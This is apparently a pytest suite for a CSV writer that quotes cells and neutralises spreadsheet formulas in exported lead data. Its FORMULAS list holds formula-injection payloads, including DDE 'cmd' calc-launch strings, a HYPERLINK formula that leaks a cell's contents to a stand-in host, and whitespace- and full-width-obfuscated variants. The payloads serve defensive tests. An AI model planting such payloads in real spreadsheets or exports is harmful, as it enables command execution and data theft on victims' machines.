"""CSV that every reader understands in the same way, and in which no spreadsheet finds a formula."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pyarrow.csv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from airflow_provider_robofy.api import codec
from airflow_provider_robofy.extract.columns import table_of
from airflow_provider_robofy.extract.formats import CsvWriter, defused, read_csv

LEADS = table_of("leads")
HEADER = "id,created_at,source,page_url,ip_address,lead_data,_project_id,_chatbot_id,_created_at,_extra,_absent\n"


def written(*rows: dict[str, Any], defuse: bool = True, resource: str = "leads") -> bytes:
    sink = io.BytesIO()
    writer = CsvWriter(sink, table_of(resource), defuse=defuse)
    writer.write(b"".join(map(codec.dump_line, rows)), rows)
    writer.finish()
    return sink.getvalue()


def cells(content: bytes) -> list[list[str]]:
    """Read as strictly as the standard library can."""
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


def lead(**fields: Any) -> dict[str, Any]:
    return {**dict.fromkeys(LEADS.names[:9]), **fields}


NASTY = ["", '"', '""', ",", "\n", "\r", "\r\n", 'a"b,c\nd\r\ne', "\u2028", "ü😀", " x ", "\\", "\\N", "\t", "'", "''"]


def test_every_cell_is_quoted_but_null_and_every_line_ends_alike() -> None:
    content = written(lead(id="a", source="", lead_data=[{"a": 'say "hi"'}]), lead(id="b"))

    assert content.decode() == (HEADER + '"a",,"",,,"[{""a"":""say \\""hi\\""""}]",,,,,\n' + '"b",,,,,,,,,,\n')


def test_the_same_cells_are_found_by_the_standard_library() -> None:
    texts = [*NASTY, *FORMULAS]
    content = written(*(lead(id=text, source=text) for text in texts), defuse=False)

    header, *found = cells(content)
    assert header == list(LEADS.names)
    assert [(row[0], row[2]) for row in found] == [(text, text) for text in texts]
    assert {len(row) for row in found} == {len(LEADS.names)}
    assert [row["id"] for row in read_csv(io.BytesIO(content), LEADS, defuse=False)] == texts


def test_null_and_empty_text_differ_for_a_reader_that_looks() -> None:
    content = written(*(lead(id=text, source=text) for text in NASTY), lead(id="last"), defuse=False)

    as_text = dict.fromkeys(LEADS.names, pyarrow.string())
    quoted = {"strings_can_be_null": True, "quoted_strings_can_be_null": False, "null_values": [""]}
    found = pyarrow.csv.read_csv(
        io.BytesIO(content),
        parse_options=pyarrow.csv.ParseOptions(newlines_in_values=True),
        convert_options=pyarrow.csv.ConvertOptions(column_types=as_text, **quoted),
    )

    assert found["id"].to_pylist() == [*NASTY, "last"]
    assert found["source"].to_pylist() == [*NASTY, None]
    assert found["page_url"].null_count == len(NASTY) + 1


# ------------------------------------------------------------------------------------------------------------ formulas
FORMULAS = [
    *("=", "-", "=1+1", "+1+1", "+49 170 1234567", '=HYPERLINK("http://evil.example?x="&A1,"click")'),
    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0"),
    # Behind what a spreadsheet may skip, and what a file must not begin with.
    *("\t=1+1", "\r=1+1", "\n=1+1", "\tx", "\rx", "\nx", " =1+1", "\u00a0=1+1", "\u3000=1+1"),
    *("\ufeff=1+1", "\u200b=1+1", "\x01=1+1"),
    # Full width.
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)"),
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown_and_not_computed(formula: str) -> None:
    content = written(lead(id=formula, source=formula))

    _, found = cells(content)
    assert (found[0], found[2]) == (f"'{formula}", f"'{formula}")
    (row,) = read_csv(io.BytesIO(content), LEADS, defuse=True)
    assert (row["id"], row["source"]) == (formula, formula)


@pytest.mark.parametrize(
    "text", ["", "a=1", "1-1", "x@y.example", "(=1)", '"=1', "{", "[]", "a\t=1", "ä", "\u2212" + "1"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert defused(text) == text


def test_json_and_numbers_are_cells_like_others() -> None:
    content = written(lead(id=-5, lead_data=-5, score="=1"))

    _, found = cells(content)
    assert (found[0], found[5]) == ("'-5", "'-5")
    assert found[9] == '{"id":-5,"score":"=1"}'
    assert list(read_csv(io.BytesIO(content), LEADS, defuse=True)) == [lead(id=-5, lead_data=-5, score="=1")]


@given(st.text() | st.text(alphabet="'=+-@\t\r\n \ufeff\uff1da"))
def test_defusing_can_be_undone_and_leaves_nothing_that_a_spreadsheet_computes(text: str) -> None:
    safe = defused(text)

    assert (safe.removeprefix("'")) == text
    assert not re.match(r"[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]", safe)
    assert not re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", safe)


# ---------------------------------------------------------------------------------------------------------- reading
def test_a_column_that_a_file_lacks_is_left_out() -> None:
    content = b'id,_chatbot_id,_extra\n"a","agent-a",\n'
    assert list(read_csv(io.BytesIO(content), LEADS, defuse=True)) == [{"id": "a", "_chatbot_id": "agent-a"}]


FOREIGN = [
    *(b"", b"\n", b"somebody's notes\n", b"id,score\n", b"\xff\xfe\n", HEADER.encode()[:-1]),
    HEADER.encode().replace(b"id", b"ID", 1),
    *(b'_position\n"x"\n', b'_position\n""\n', b'_position\n"1.5"\n'),
]
#: Lines below our header: too few or too many cells, not quoted, broken off, and cells that hold something else.
LINES = [
    *(b"\n", b'"a"\n', b'"a",,,,,,,,,,,\n', b"a,,,,,,,,,,\n", b'"a",,,,,,,,,,', b'"a",,,,,,,,,,\r\n'),
    *(b'"a,,,,,,,,,,\n', b'"a"x,,,,,,,,,,\n', b'"\xff",,,,,,,,,,\n', b'"a",,,,,"{",,,,,\n', b'"a",,,,,,,,,"5",\n'),
]


@pytest.mark.parametrize("content", [*FOREIGN, *(HEADER.encode() + line for line in LINES)])
def test_what_was_written_by_somebody_else_is_refused(content: bytes) -> None:
    table = table_of("messages") if content.startswith(b"_position") else LEADS
    with pytest.raises(ValueError):  # noqa: PT011 (who reads the file says which)
        list(read_csv(io.BytesIO(content), table, defuse=True))
